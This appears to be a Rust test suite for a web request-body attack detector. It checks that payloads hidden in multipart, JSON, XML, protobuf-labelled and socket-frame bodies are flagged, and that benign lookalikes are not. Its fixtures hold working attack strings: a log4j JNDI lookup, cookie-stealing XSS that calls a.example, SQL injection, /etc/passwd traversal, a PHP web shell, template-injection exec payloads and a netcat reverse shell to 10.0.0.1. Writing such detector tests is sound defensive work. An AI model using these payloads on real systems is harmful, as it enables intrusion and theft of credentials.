//! No part of a body is left out, whatever its type or its names say.

use portcullis_semantic::{Analysis, Detectors, Level};

fn class(detectors: &Detectors, content_type: &str, body: &[u8]) -> &'static str {
    let mut analysis = Analysis::new();
    analysis.request_body(detectors, content_type.as_bytes(), body);
    let worst = analysis.worst(detectors, Level::Balanced).filter(|worst| worst.blocks(Level::Balanced));
    worst.map_or("", |worst| worst.class.name())
}

const ATTACKS: [(&str, &str); 4] = [
    ("${jndi:ldap://a.example/x}", "log4j"),
    ("<script>alert(document.cookie)</script>", "xss"),
    ("1' UNION SELECT password FROM users-- -", "sqli"),
    ("../../../../etc/passwd", "path"),
];

/// A text may be a sound message of Protocol Buffers, since its letters are numbers of fields.
#[test]
fn a_type_of_messages_hides_no_text() {
    let detectors = Detectors::new();
    let forms = [
        (&b"A=1&x=%3C%3Fph%70%20system($_GET%5B1%5D);%3F%3E&M"[..], "code"),
        (b"my=1&x=1%27%20UNION%20SELECT%20password%20F%52OM%20users--%20-&Aa1myEamU", "sqli"),
    ];
    for (body, class_of) in forms {
        let content_type = "application/x-www-form-urlencoded; a=protobuf";
        assert_eq!(class(&detectors, content_type, body), class_of, "{}", body.escape_ascii());
    }
    let documents = [
        (
            &b"\t\r\n\t\r \r { \"id\":\"1'  uNion   seLecT password/*a*/From/*a*/users#050ae0a0\" }"[..],
            "sqli",
        ),
        (b"\r\t\r\t\r\t{\"x\":\";cat /etc/passwd\"\t\t\t }", "command"),
    ];
    for content_type in ["application/json; a=application/grpc", "application/x-protobuf"] {
        for (body, class_of) in documents {
            assert_eq!(class(&detectors, content_type, body), class_of, "{content_type}");
        }
    }
}

fn part(disposition: &str, headers: &str, content: &str) -> String {
    format!("--x\r\nContent-Disposition: form-data; {disposition}\r\n{headers}\r\n{content}\r\n--x--\r\n")
}

#[test]
fn names_and_headers_of_files_are_values() {
    let detectors = Detectors::new();
    let class = |body: String| class(&detectors, "multipart/form-data; boundary=x", body.as_bytes());
    for (attack, class_of) in ATTACKS {
        let name = attack.replace('"', "%22");
        assert_eq!(
            class(part(&format!("name=\"{name}\"; filename=\"a.png\""), "", "x")),
            class_of,
            "{attack}"
        );
        for header in ["Content-Type: image/png", "X-A: "] {
            let header = format!("{header}{attack}\r\n");
            assert_eq!(class(part("name=\"f\"; filename=\"a.png\"", &header, "x")), class_of, "{header}");
        }
    }
    for header in [
        "Content-Type: image/svg+xml; charset=utf-8",
        "Content-Type: text/x-c++",
        "Content-ID: <a@b.example>",
    ] {
        let honest = part("name=\"files[0][my file]\"; filename=\"it's.png\"", &format!("{header}\r\n"), "x");
        assert_eq!(class(honest), "", "{header}");
    }
}

/// Scripts send JSON as a `Blob`, however long it is.
#[test]
fn json_in_a_blob_is_values() {
    let detectors = Detectors::new();
    let class = |body: String| class(&detectors, "multipart/form-data; boundary=x", body.as_bytes());
    for (attack, class_of) in ATTACKS {
        for length in [0, 1100, 70_000, 300_000] {
            let padding = "c".repeat(length);
            for json in [
                format!("{{\"id\":\"{attack}\",\"p\":\"{padding}\"}}"),
                format!("{{\"p\":\"{padding}\",\"id\":\"{attack}\"}}"),
                format!("\n [\"{padding}\", [{{\"id\":\"{attack}\"}}]]"),
            ] {
                for filename in ["; filename=\"blob\"", ""] {
                    let disposition = format!("name=\"data\"{filename}");
                    let body = part(&disposition, "Content-Type: application/json\r\n", &json);
                    assert_eq!(class(body), class_of, "{filename} {length} {attack}");
                }
            }
        }
    }
    // A document that is uploaded as one may quote them.
    let notebook = format!("{{\"cells\":[\"{}\"],\"p\":\"{}\"}}", ATTACKS[2].0, "c".repeat(1100));
    let body =
        part("name=\"data\"; filename=\"notes.ipynb\"", "Content-Type: application/json\r\n", &notebook);
    assert_eq!(class(body), "");
}

/// An application that takes the entries of a list one by one leaves their keys to the client.
#[test]
fn keys_of_lists_excuse_nothing() {
    let detectors = Detectors::new();
    let class = |body: &str| class(&detectors, "application/x-www-form-urlencoded", body.as_bytes());
    for key in ["code", "source", "snippet", "script", "js", "func", "0"] {
        assert_eq!(class(&format!("hosts[{key}]=127.0.0.1;cat+/etc/passwd")), "command", "{key}");
        assert_eq!(class(&format!("target_ips[0][{key}]=127.0.0.1;cat+/etc/passwd")), "command", "{key}");
    }
    for key in ["filter", "rule", "condition", "x"] {
        assert_eq!(class(&format!("ids[{key}]=1+OR+1=1")), "sqli", "{key}");
    }
    // A snippet of an editor is what the field is for.
    assert_eq!(class("post[code]=cat+/etc/passwd;ls"), "");
    assert_eq!(class("filter=1+OR+1=1"), "");
}

/// More prefixes for a namespace than are remembered.
fn many(namespace: &str) -> String {
    (0..60).map(|number| format!("xmlns:prefix{number}=\"{namespace}\" ")).collect()
}

/// Browsers run the scripts of XHTML and SVG in any document of XML.
#[test]
fn scripts_of_pages_in_xml_run() {
    let detectors = Detectors::new();
    let xhtml = "http://www.w3.org/1999/xhtml";
    for body in [
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//a.example/'+document.cookie)</script></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><g/><script href='//a.example/x.js'/></svg>",
        &format!("<x xmlns=\"{xhtml}\"><b>a</b><script>alert(1)</script></x>"),
        &format!("<a:script xmlns:a=\"{xhtml}\">alert(1)</a:script>"),
        &format!("<script xmlns=\"{xhtml}\"><b/>alert(1)</script>"),
        &format!("<x {} xmlns:z=\"{xhtml}\"><z:script>alert(1)</z:script></x>", many(xhtml)),
        &format!("<a:script src=\"https://a.example/x.js\" xmlns:a=\"{xhtml}\"></a:script>"),
        &format!(
            "<feed><content type=\"xhtml\"><div xmlns=\"{xhtml}\"><script>alert(1)</script></div></content></feed>"
        ),
    ] {
        for content_type in ["application/xml", "image/svg+xml", "application/atom+xml", "text/xml"] {
            assert_eq!(class(&detectors, content_type, body.as_bytes()), "xss", "{content_type} {body}");
        }
    }
    for body in [
        "<project><script>alert(1)</script></project>",
        &format!("<x xmlns:a=\"{xhtml}\" xmlns:b=\"{xhtml}\"><script>alert(1)</script></x>"),
        "<workflow><script language='groovy'>println 'done'</script></workflow>",
        &format!("<div xmlns=\"{xhtml}\"><p>a</p><script/></div>"),
        "<rss><item><description>&lt;b&gt;a&lt;/b&gt;</description></item></rss>",
    ] {
        assert_eq!(class(&detectors, "application/xml", body.as_bytes()), "", "{body}");
    }
}

/// What a page sends that polls for the frames of a socket is read as the JSON that it is.
#[test]
fn frames_of_sockets_are_json() {
    let detectors = Detectors::new();
    let frames = |text: &str| {
        [
            format!("42[\"msg\",{{\"text\":\"{text}\"}}]"),
            format!("42[\"msg\",{{\"text\":\"{text}\"}}]\u{1e}3\u{1e}42[\"x\"]"),
            format!("{{\"type\":1,\"target\":\"send\",\"arguments\":[\"{text}\"]}}\u{1e}"),
        ]
    };
    for body in frames("1) milk -- \\\"that cheese\\\" -- and beer!") {
        assert_eq!(class(&detectors, "text/plain;charset=UTF-8", body.as_bytes()), "", "{body}");
    }
    for (attack, class_of) in ATTACKS {
        for body in frames(attack) {
            assert_eq!(class(&detectors, "text/plain;charset=UTF-8", body.as_bytes()), class_of, "{body}");
            // Something else stands behind them.
            let body = format!("42[\"a\"]{body}");
            assert_eq!(class(&detectors, "text/plain", body.as_bytes()), class_of, "{body}");
        }
    }
    assert_eq!(class(&detectors, "text/plain", b"42[\"a\"]; cat /etc/passwd"), "command");
}

/// Reports of errors name files of programs and quote their lines.
#[test]
fn stack_traces_pass() {
    let detectors = Detectors::new();
    let class = |body: &str| class(&detectors, "application/json", body.as_bytes());
    for body in [
        r#"{"exception":{"values":[{"stacktrace":{"frames":[{"abs_path":"/usr/local/lib/python3.11/site-packages/flask/app.py","context_line":"    return self.handle(e)"}]}}]}}"#,
        r#"{"library":"/usr/lib/x86_64-linux-gnu/libc.so.6"}"#,
        r#"{"process":{"title":"/usr/lib/jvm/java-10-openjdk-amd64/bin/java"}}"#,
        r#"{"streams":[{"stream":{"filename":"/var/log/nginx/access.log"},"values":[["1","a"]]}]}"#,
    ] {
        assert_eq!(class(body), "", "{body}");
    }
    for body in [
        r#"{"frames":[{"abs_path":"/etc/shadow"}]}"#,
        r#"{"library":"../../../../usr/lib/x86_64-linux-gnu/libc.so.6"}"#,
        r#"{"file":"/usr/local/lib/php/pearcmd.php"}"#,
        r#"{"streams":[{"stream":{"filename":"/etc/passwd"}}]}"#,
    ] {
        assert_eq!(class(body), "path", "{body}");
    }
}

/// `text` as a string of JSON.
fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

/// Texts of a document that a field is for are texts; nothing else in it is.
#[test]
fn texts_of_documents_in_strings() {
    let detectors = Detectors::new();
    let json = |name: &str, inner: String| format!("{{\"{name}\":{}}}", quoted(&inner));
    let text = |name: &str, text: &str| {
        let inner = format!("{{\"elements\":[{{\"type\":\"section\",\"text\":{}}}]}}", quoted(text));
        json(name, inner)
    };
    let class = |body: String| class(&detectors, "application/json", body.as_bytes());
    let honest = "Don't use `ls -la` there; see /etc/nginx/nginx.conf";
    for name in ["blocks", "payload", "arguments", "richtext_json"] {
        assert_eq!(class(text(name, honest)), "", "{name}");
    }
    let frame = format!("[{}]", quoted(&format!("{{\"msg\":{}}}", quoted(honest))));
    assert_eq!(class(frame), "");
    for name in ["host", "id", "data", "blocks"] {
        assert_ne!(class(text(name, "<script>alert(document.cookie)</script>")), "", "{name}");
        assert_eq!(class(text(name, ATTACKS[2].0)), "sqli", "{name}");
    }
    // The same string as a text first, and elsewhere then.
    for inner in [
        "{\"text\":\"`cat /etc/passwd`\",\"host\":\"`cat /etc/passwd`\"}",
        "{\"hosts\":{\"text\":\"`cat /etc/passwd`\"}}",
    ] {
        assert_ne!(class(json("blocks", inner.to_owned())), "", "{inner}");
    }
    assert_ne!(class(text("host", "`cat /etc/passwd`")), "");
}

/// What allowances for honest values have to leave to attacks, and new rules to sentences.
#[test]
fn allowances_are_no_holes() {
    let detectors = Detectors::new();
    let class = |body: &str| {
        let body = format!("{{\"id\":{}}}", quoted(body));
        class(&detectors, "application/json", body.as_bytes())
    };
    for (text, class_of) in [
        ("{[{{_self.env.registerUndefinedFilterCallback('exec')}}]}", "template"),
        ("x{[ ${\"freemarker.template.utility.Execute\"?new()(\"id\")} ]}", "template"),
        ("x;{ cat${IFS}config.php; }", "command"),
        ("x;{ nc ${x} 10.0.0.1 4444 -e /bin/sh; }", "command"),
        ("x;env != nc 10.0.0.1 4444 -e sh", "command"),
        ("x && env != cat config.php", "command"),
        ("x';delete users where id=1--", "sqli"),
    ] {
        assert_eq!(class(text), class_of, "{text}");
    }
    for text in [
        "12; Apt #",
        "2; learn C#",
        "1; call John #",
        "TV 55\"; black --",
        "the customers'; orders #",
        "5; revert",
        "the users'; notify all",
        "\"/README.md\",",
        "\"/api/v1/users\", \"/api/v1/posts\",",
        "rtsp://admin:pw@192.168.1.64:554/h264Preview_01_main",
        "country in ['DE'] || env == 'dev'",
    ] {
        assert_eq!(class(text), "", "{text}");
    }
    let frame = |name: &str| format!("{{\"frames\":{{\"{name}\":\"http://127.0.0.1:8080/admin\"}}}}");
    let of_json = |body: &str| {
        let mut analysis = Analysis::new();
        analysis.request_body(&detectors, b"application/json", body.as_bytes());
        analysis.worst(&detectors, Level::Balanced).is_some_and(|worst| worst.blocks(Level::Balanced))
    };
    assert!(of_json(&frame("url")));
    let xforms = "<job xmlns:h=\"http://www.w3.org/1999/xhtml\"><script>echo 1</script></job>";
    let mut analysis = Analysis::new();
    analysis.request_body(&detectors, b"application/xml", xforms.as_bytes());
    assert!(!analysis.worst(&detectors, Level::Balanced).is_some_and(|worst| worst.blocks(Level::Balanced)));
}
